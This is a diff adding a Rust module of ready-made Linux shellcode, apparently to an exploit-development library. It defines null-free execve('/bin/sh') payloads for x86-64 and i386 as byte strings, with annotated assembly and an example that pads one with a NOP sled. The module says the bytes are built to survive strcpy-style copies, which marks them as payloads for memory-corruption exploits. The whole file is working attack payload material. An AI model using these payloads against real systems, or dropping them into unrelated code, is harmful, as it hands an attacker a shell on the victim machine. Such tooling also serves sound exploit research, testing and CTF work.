@@ -0,0 +1,63 @@
+#![cfg(feature = "shellcode")]
+
+/*!
+Ready-made payloads for common architectures. Every payload is null-free, so it survives
+`strcpy`-style copies, and is a `&'static [u8]` that drops straight into [`flat!`](crate::flat).
+
+```
+use engine::{flat, util::shellcode::EXECVE_BIN_SH_X86_64};
+
+let payload = flat!([0x90; 16], EXECVE_BIN_SH_X86_64);
+assert_eq!(payload.len(), 16 + EXECVE_BIN_SH_X86_64.len());
+```
+*/
+
+/**
+x86-64 Linux `execve("/bin/sh", ["/bin/sh", NULL], NULL)`, 27 bytes.
+
+Needs `rsp` to point at writable memory, since the string and `argv` are pushed onto the stack.
+Makes no assumptions about any other register.
+
+```text
+xor    eax, eax
+movabs rbx, 0xff978cd091969dd1  ; -"/bin/sh\0"
+neg    rbx
+push   rbx
+push   rsp
+pop    rdi
+cdq
+push   rdx
+push   rdi
+push   rsp
+pop    rsi
+mov    al, 0x3b
+syscall
+```
+*/
+pub const EXECVE_BIN_SH_X86_64: &[u8] =
+    b"\x31\xc0\x48\xbb\xd1\x9d\x96\x91\xd0\x8c\x97\xff\x48\xf7\xdb\
+\x53\x54\x5f\x99\x52\x57\x54\x5e\xb0\x3b\x0f\x05";
+
+/**
+i386 Linux `execve("//bin/sh", ["//bin/sh", NULL], NULL)`, 24 bytes.
+
+Needs `esp` to point at writable memory, since the string and `argv` are pushed onto the stack.
+Makes no assumptions about any other register.
+
+```text
+xor    eax, eax
+cdq
+push   eax
+push   0x68732f2f               ; "//sh"
+push   0x6e69622f               ; "/bin"
+mov    ebx, esp
+push   eax
+push   ebx
+mov    ecx, esp
+mov    al, 0xb
+int    0x80
+```
+*/
+pub const EXECVE_BIN_SH_I386: &[u8] =
+    b"\x31\xc0\x99\x50\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\
+\x50\x53\x89\xe1\xb0\x0b\xcd\x80";